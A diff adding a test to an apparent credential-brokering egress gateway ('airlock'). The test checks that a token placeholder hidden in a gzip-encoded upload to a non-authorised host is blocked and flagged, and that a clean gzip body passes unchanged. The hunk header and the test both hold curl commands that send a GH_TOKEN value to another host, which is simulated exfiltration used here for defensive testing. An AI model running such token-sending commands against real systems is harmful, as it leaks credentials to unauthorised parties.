@@ -108,6 +108,36 @@ curl -sS --max-time 5 -o /dev/null -w '%{http_code}' --data "t=$GH_TOKEN" http:/
   } finally { await s.gw.close(); await api.close(); await other.close(); plain.close(); }
 });
 
+test('a placeholder hidden in a gzip-encoded body to an intercepted host is still found and refused; a clean gzip body passes as sent', async () => {
+  const pki = await testPki();
+  const api = await httpsServer(await pki.leaf(['api.test']));
+  const other = await httpsServer(await pki.leaf(['other.test']));
+  const ports = [api.port, other.port];
+  const s = await start({
+    egress: { allow: [{ host: 'api.test', ports }, { host: 'other.test', ports }], allowCidrs: [{ cidr: '127.0.0.1/32', ports }], intercept: ['other.test'] },
+    credentials: { brokered: [{ name: 'GH_TOKEN', source: { env: 'HOST_GH_TOKEN' }, destinations: [{ host: 'api.test', port: api.port }] }] },
+  }, { 'api.test': '127.0.0.1', 'other.test': '127.0.0.1' }, { host: '127.0.0.1', port: 0 }, { home: home(), hostEnv: { HOST_GH_TOKEN: REAL }, upstreamCa: [pki.caPem] });
+  const dir = mkdtempSync(join(tmpdir(), 'airlock-gz-'));
+  const caFile = join(dir, 'ca.pem');
+  writeFileSync(caFile, s.prepared.gateway.tls.ca.certPem);
+  try {
+    const ph = s.prepared.sandboxEnv.GH_TOKEN!;
+    writeFileSync(join(dir, 'bad.gz'), gzipSync(JSON.stringify({ note: `token=${ph}` })));
+    const bad = await curl(['-x', s.url, '--cacert', caFile, '-H', 'content-encoding: gzip', '--data-binary', `@${join(dir, 'bad.gz')}`, `https://other.test:${other.port}/upload`]);
+    assert.equal(bad.status, 403, bad.stderr);
+    assert.equal(bad.headers['x-airlock-rule'], 'credentials.brokered.GH_TOKEN');
+    assert.equal(other.seen.length, 0, 'the other host received nothing');
+    const f = s.events.find((e) => e.type === 'detect.finding');
+    assert.equal(f?.rule, 'detect.credential-misuse');
+    const clean = gzipSync('{"hello":"world"}');
+    writeFileSync(join(dir, 'ok.gz'), clean);
+    const ok = await curl(['-x', s.url, '--cacert', caFile, '-H', 'content-encoding: gzip', '--data-binary', `@${join(dir, 'ok.gz')}`, `https://other.test:${other.port}/upload`]);
+    assert.equal(ok.status, 200, ok.stderr);
+    assert.equal(other.seen.length, 1);
+    assert.equal(other.seen[0]!.headers['content-encoding'], 'gzip', 'forwarded as sent');
+  } finally { await s.gw.close(); await api.close(); await other.close(); }
+});
+
 async function modelSetup(mode: 'redact' | 'block' | 'off') {
   const pki = await testPki();
   const model = await httpsServer(await pki.leaf(['model.test']), (_s, res) => { res.writeHead(200, { 'content-type': 'application/json' }); res.end('{"ok":true}'); });
